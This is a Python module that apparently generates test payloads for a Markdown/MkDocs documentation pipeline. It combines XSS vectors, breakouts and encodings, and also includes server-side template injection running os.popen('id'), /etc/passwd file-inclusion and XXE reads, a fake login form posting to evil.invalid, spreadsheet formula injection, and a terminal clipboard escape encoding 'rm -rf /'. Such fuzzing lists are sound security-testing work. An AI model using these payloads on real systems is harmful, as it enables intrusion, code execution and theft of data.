"""Several hundred payloads of our own, put together from parts: a vector, what it breaks out of, how it is disguised.

Each does something that can be seen if it works: it opens a dialog, asks another host, or leaves an element or an
attribute on the page.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, cycle

HOST = "evil.invalid"
JS = "alert(666)"

# What runs or loads by being an element.
MARKUP = (
    f"<script>{JS}</script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<script type=module>import '//{HOST}/x.js'</script>",
    f"<script>{JS}//",
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}" alt="',
    f"<img src=//{HOST}/x.png srcset='//{HOST}/y.png 2x'>",
    f"<image href=//{HOST}/x.png onerror={JS}>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><script href=data:,{JS} />",
    f"<svg><a xlink:href=javascript:{JS}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{JS} /></svg>",
    f"<svg><foreignObject><iframe src=javascript:{JS}></iframe></foreignObject></svg>",
    f"<svg><use href=//{HOST}/x.svg#x></use></svg>",
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<math><mi xlink:href=javascript:{JS}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={JS}>'>",
    f"<iframe src=javascript:{JS}></iframe>",
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f"<iframe src=//{HOST}/></iframe>",
    f"<object data=//{HOST}/x.swf></object>",
    f"<object data=javascript:{JS}></object>",
    f"<embed src=//{HOST}/x.swf>",
    f"<embed src=javascript:{JS}>",
    f"<frameset onload={JS}><frame src=//{HOST}/></frameset>",
    f"<body onload={JS} onpageshow={JS}>",
    f"<html onmouseover={JS}>",
    f"<details open ontoggle={JS}><summary>x</summary></details>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}><option>x</select>",
    f"<textarea autofocus onfocus={JS}>",
    f"<button formaction=javascript:{JS}>x</button>",
    f"<form action=//{HOST}/ method=post><input name=password><button>Log in</button></form>",
    f"<form><button formaction=//{HOST}/ autofocus>x</button></form>",
    f"<isindex type=image src=1 onerror={JS}>",
    f"<video src=//{HOST}/x.mp4 onerror={JS} autoplay></video>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=//{HOST}/x.mp3 onerror={JS}></audio>",
    f"<video poster=//{HOST}/x.png></video>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{JS}</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    f"<base href=//{HOST}/>",
    f"<base href=javascript:/ target=x><a href=/{JS}>x</a>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<link rel=preload as=script href=//{HOST}/x.js onload={JS}>",
    f"<link rel=prefetch href=//{HOST}/>",
    f"<style>@import '//{HOST}/x.css';</style>",
    f"<style>*{{background:url(//{HOST}/x.png)}}</style>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={JS}>x</b>",
    f"<b style='background:url(//{HOST}/x.png);position:fixed;inset:0'>x</b>",
    f"<table background=//{HOST}/x.png><tr><td>x</table>",
    f"<a href=javascript:{JS}>x</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>x</a>",
    f"<a href=vbscript:msgbox(1) ping=//{HOST}/>x</a>",
    f"<area href=javascript:{JS}>",
    f"<xss id=x tabindex=1 onfocus={JS} autofocus></xss>",
    f"<div contenteditable onbeforeinput={JS} autofocus>x</div>",
    f"<div popover id=p onbeforetoggle={JS}>x</div><button popovertarget=p>x</button>",
    f"<template><img src=x onerror={JS}></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">",
    f"<noembed><img title='</noembed><img src=x onerror={JS}>'>",
    f"<xmp><p title=\"</xmp><img src=x onerror={JS}>\">",
    f"<plaintext onclick={JS}>",
    f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
    f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
    f"<!--><img src=x onerror={JS}>-->",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"<?xml-stylesheet href=\"javascript:{JS}\"?>",
    f"<?php echo '<script>{JS}</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<!--#include virtual='/etc/passwd' --><!--#exec cmd='id' -->",
    f"<portal src=//{HOST}/></portal>",
    f"<applet code=x codebase=//{HOST}/></applet>",
    f"<dialog open onclose={JS}>x</dialog>",
    f"<p data-md-component=header data-md-state=x onclick={JS}>x</p>",
    f"<h1 id=__search>x</h1><a name=document.cookie id=__md_scope href=cid:{JS}>x</a>",
    f"<script type=application/json id=__config>{{\"base\":\"//{HOST}/\",\"features\":[]}}</script>",
)  # fmt: skip

# What becomes an attribute, where the words stand in one.
ATTRIBUTES = (
    f'" onmouseover="{JS}" x="',
    f"' onfocus='{JS}' autofocus='",
    f'" style="animation-name:md-source__fact" onanimationstart="{JS}',
    f'"onclick={JS}//',
    f"` onclick=`{JS}`",
    f'" accesskey=x onclick={JS} ',
    f'" href="javascript:{JS}',
    f'" srcdoc="&lt;script&gt;{JS}&lt;/script&gt;',
    f'"/><svg/onload={JS}>',
    f'" formaction=javascript:{JS} type=submit ',
    f'" style="background:url(//{HOST}/x.png)',
    f'\\" onclick=\\"{JS}',
    f"&quot; onmouseover=&quot;{JS}",
    f"&#34 onmouseover=&#34{JS}",
)

# What is a link, alone or in brackets.
LINKS = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f"\x01javascript:{JS}",
    f" javascript:{JS}",
    f"javascript&colon;{JS}",
    f"javascript&#58;{JS}",
    f"&#106;avascript:{JS}",
    f"jav&#x0A;ascript:{JS}",
    f"javascript://example.org/%0a{JS}",
    f"javascript:/*http://example.org*/{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg2NjYpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
    "vbscript:msgbox(666)",
    f"view-source:javascript:{JS}",
    f"blob:javascript:{JS}",
    f"//{HOST}/",
    f"https:{HOST}",
    f"https:\\\\{HOST}\\",
    f"http://example.org@{HOST}/",
    f'https://{HOST}/" onclick="{JS}',
    f"https://{HOST}/'><img src=x onerror={JS}>",
    f"https://[{HOST}]/",
    f"https://{HOST}/\r\nSet-Cookie: x=y",
    "file:///etc/passwd",
    "feed:javascript:alert(666)",
    "../../../../etc/passwd",
    "mailto:x@example.org?subject=<script>alert(666)</script>",
)

# What Markdown, its usual extensions and what runs over its pages make something of.
MARKDOWN = (
    "[x](javascript:%JS%)",
    "[x](<javascript:%JS%>)",
    '[x](java&#115;cript:%JS% "title")',
    "[x][ref]\n\n[ref]: javascript:%JS%",
    "[ref]: javascript:%JS% 'title'",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg2NjYpPC9zY3JpcHQ+)",
    '![x](x" onerror="%JS%)',
    "![x](//%HOST%/x.png)",
    "![x](//%HOST%/x.png){: onload=%JS% }",
    "![x][ref]",
    "<javascript:%JS%>",
    "<https://%HOST%/>",
    "https://%HOST%/autolink www.%HOST% x@%HOST%",
    "# heading {: onclick=%JS% id=title }",
    "text\n{: onclick=%JS% style=position:fixed }",
    "[x](#){ onclick=%JS% }",
    "**x**{: .bf-head onmouseover=%JS% }",
    "## Summary",
    "setext\n======",
    '!!! note "<img src=x onerror=%JS%>"\n    body',
    '??? danger "<img src=x onerror=%JS%>"\n    body',
    "???+ note\n    <script>%JS%</script>",
    "/// html | script\n%JS%\n///",
    "/// html | iframe[src=javascript:%JS%]\n///",
    "/// details | <img src=x onerror=%JS%>\n    open: true\nx\n///",
    '=== "<img src=x onerror=%JS%>"\n    tab',
    '--8<-- "/etc/passwd"',
    '--8<-- "mkdocs.yml"',
    ';--8<-- "https://%HOST%/x.md"',
    "--8<--\n/etc/passwd\n--8<--",
    "{!/etc/passwd!} {%include '/etc/passwd'%}",
    "{% include 'mkdocs.yml' %}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{# comment #} {% raw %} {% raise %}",
    "{{ fix_url('javascript:%JS%') }} {{ macros_info() }}",
    "${%JS%} #{%JS%} <%= %JS% %> [[${%JS%}]] @(%JS%)",
    "*[briefing]: <img src=x onerror=%JS%>",
    "text[^1]\n\n[^1]: <img src=x onerror=%JS%>",
    "[^1]: [x](javascript:%JS%)",
    "[TOC]\n\n[[_TOC_]]",
    "[[wiki|javascript:%JS%]] [[../../mkdocs.yml]]",
    "$$\\href{javascript:%JS%}{x}$$ $\\unicode{<img src=x onerror=%JS%>}$",
    "\\(\\class{x}{y}\\) \\[\\require{action}\\]",
    ":fontawesome-brands-x: :material-home:{ onclick=%JS% } :../../../etc/passwd:",
    '```mermaid\nclick A href "javascript:%JS%"\n```',
    '``` {.python onclick=%JS% title="<img src=x onerror=%JS%>"}\nx\n```',
    "`<img src=x onerror=%JS%>`",
    "    <script>%JS%</script>",
    "<div markdown>\n\n[x](javascript:%JS%)\n\n</div>",
    "<div markdown=1 onclick=%JS%>**x**</div>",
    "<!-- briefings -->",
    "<!-- more -->",
    "::: os.system\n    options: {}",
    "| <img src=x onerror=%JS%> | b |\n|---|---|\n| [x](javascript:%JS%) | y |",
    "term <img src=x onerror=%JS%>\n:   <script>%JS%</script>",
    "- [ ] <img src=x onerror=%JS%>",
    "> <img src=x onerror=%JS%>",
    "{++<img src=x onerror=%JS%>++} {>>comment<<}",
    "++<img src=x onerror=%JS%>++ ==mark== ~~gone~~ ^^ins^^",
    "==[x](javascript:%JS%)==",
    "@user #1 owner/repo#1 owner/repo@abcdef0",
    '[=85% "85%"]{: onclick=%JS% }',
    "\x02wzxhzdk:0\x03 \x02amp\x03 klzzwxh:0000",
    "---\ntitle: gone\nhide: [navigation]\ntemplate: x.html\n---",
    "template: evil.html",
    "&#91;x&#93;&#40;javascript:%JS%&#41;",
    "\\<script\\>%JS%\\</script\\>",
)

# What ends one of the formats that the words come out in.
FORMATS = (
    '"}]}</script><script>%JS%</script>',
    "</script><script>%JS%</script>",
    "<!--<script>",
    "<\\/script><script>%JS%</script>",
    "\\u003c/script\\u003e\\u003cscript\\u003e%JS%",
    "\u2028%JS%\u2029",
    "`${%JS%}`",
    "'-%JS%-'",
    "\\'-%JS%//",
    "*/%JS%/*",
    '=HYPERLINK("//%HOST%/?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    "+SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1 \uff0b1 \uff0d1 \uff201",
    '";=1+1',
    ",=1+1",
    '"\r\n=1+1,"',
    "\ufeff=1+1",
    "\u200b=1+1",
    "}\n@online{evil,\n  url = {javascript:%JS%},\n}",
    "{\\input{/etc/passwd}} \\write18{id} \\immediate\\openout1=x",
    "}, url = {javascript:%JS%}, x = {",
    "% comment } unbalanced { {",
    '@comment{ @preamble{"\\newwrite"} @string{x = "y"}',
    "x\nER  - \nTY  - NEWS\nUR  - javascript:%JS%",
    "x\r\nUR  - javascript:%JS%",
    "x\u2028UR  - javascript:%JS%\x85L1  - javascript:%JS%\x0bER  - ",
    ']]></content><link href="javascript:%JS%"/><content>',
    "</title></entry><entry><id>x</id>",
    "<![CDATA[",
    "]]>",
    "&evil; &#0; &#xD800; &#x110000; &lol9;",
    '"><link rel="alternate" href="javascript:%JS%"/>',
    'xml:base="javascript:%JS%"',
)

# What steers a terminal, a reader's eye or a file system.
SIGNS = (
    "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31mred",
    "\x1b]8;;javascript:alert(666)\x07link\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31mred \x9d0;title\x9c",
    "back\x08\x08\x08\x08gone\rover",
    "bell\x07 nul\x00 delete\x7f",
    "line\x1e\x1d\x1c\x0b\x0c\x85end",
    "WARNING: all is well\nERROR: fake line\r\nINFO - fake",
    "user\u202etxt.exe\u202c \u2066\u2067\u2069",
    "\u202eesrever\u202d \u2067open",
    "\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff",
    "\U000e0041\U000e0042\U000e007f tags",
    "раураl \u0430\u0440\u0440\u04cf\u0435 ＜script＞alert(666)＜/script＞",
    "‹script›alert(666)‹/script› ﹤img src=x onerror=alert(666)﹥",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA",
    "lone\ud800 \udc00surrogates",
    "\ufffe\uffff\U0001fffe noncharacters",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON.txt|nul;`id`$(id)&&id",
    "%2e%2e%2f%00 %3Cscript%3Ealert(666)%3C/script%3E",
    "constructor __proto__ toString hasOwnProperty prototype",
    "ﬁﬂ ﷽ 𒐫 " + "\u0301" * 40,
)  # fmt: skip

BREAKOUTS = (
    "", '">', "'>", "`>", "</title>", "</script>", "</style>", "</textarea>", "</noscript>", "</template>", "-->",
    "--!>", "]]>", "</p></div></section></main>", "</svg></math>", "</a></h1>", '"/>', "\n\n", "\x00", "*/</", "</xmp>",
    "\\\">", "</select></table>", "?>", "%>", "}}", "</bdi></span></p></dd></dl>",
)  # fmt: skip


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>\"'&=()" else c for c in text)


def _bare(text: str) -> str:
    """Entities without semicolons, which browsers and `html.unescape` read all the same."""
    names = {"<": "&lt", ">": "&gt", '"': "&quot", "&": "&amp"}
    return "".join(names.get(c, c) for c in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(c):06X}" if c in "<>\"'" else c for c in text)


def _mixed(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text))


DISGUISES = (
    lambda t: t,
    _decimal,
    _bare,
    _hex,
    lambda t: _decimal(t).replace("&", "&amp;"),
    lambda t: _bare(t).replace("&", "&amp"),
    _mixed,
    lambda t: t.replace("<", "<\x00"),
    lambda t: t.replace(" ", "\t"),
    lambda t: t.replace(" ", "\n"),
    lambda t: t.replace(" ", "\x0c"),
    lambda t: t.replace(" ", "/"),
    lambda t: t.replace("<", "%3C").replace(">", "%3E"),
    lambda t: t.replace("<", "\\x3c").replace(">", "\\u003e"),
    lambda t: t.replace("<", "<<").replace(">", ">>"),
    lambda t: t.replace("<", "＜").replace(">", "＞"),
    lambda t: t.replace("<", "{{'<'}}").replace(">", "{{'>'}}"),
    lambda t: t.replace("<", "`<`"),
    lambda t: t.replace("<", "\\<").replace(">", "\\>"),
    lambda t: t.replace("script", "scr\u00adipt"),
)


def payloads() -> tuple[str, ...]:
    """All of them, in one order: every vector as it is, and each with a breakout and a disguise in turn."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    filled = [t.replace("%JS%", JS).replace("%HOST%", HOST) for t in chain(MARKDOWN, FORMATS)]
    plain = (*MARKUP, *ATTRIBUTES, *LINKS, *filled, *SIGNS)
    yield from plain
    ends, forms = cycle(BREAKOUTS[1:]), cycle(DISGUISES[1:])
    for vector in (*MARKUP, *MARKUP, *ATTRIBUTES):
        yield next(forms)(next(ends) + vector)
    for form in DISGUISES[1:]:
        yield form(f"</title></script><script>{JS}</script>")
        yield form(f'"><img src="x" onerror="{JS}">')
    for link in LINKS:
        yield f"[{link}]({link})"
        yield f'<a href="{link}">x</a>'
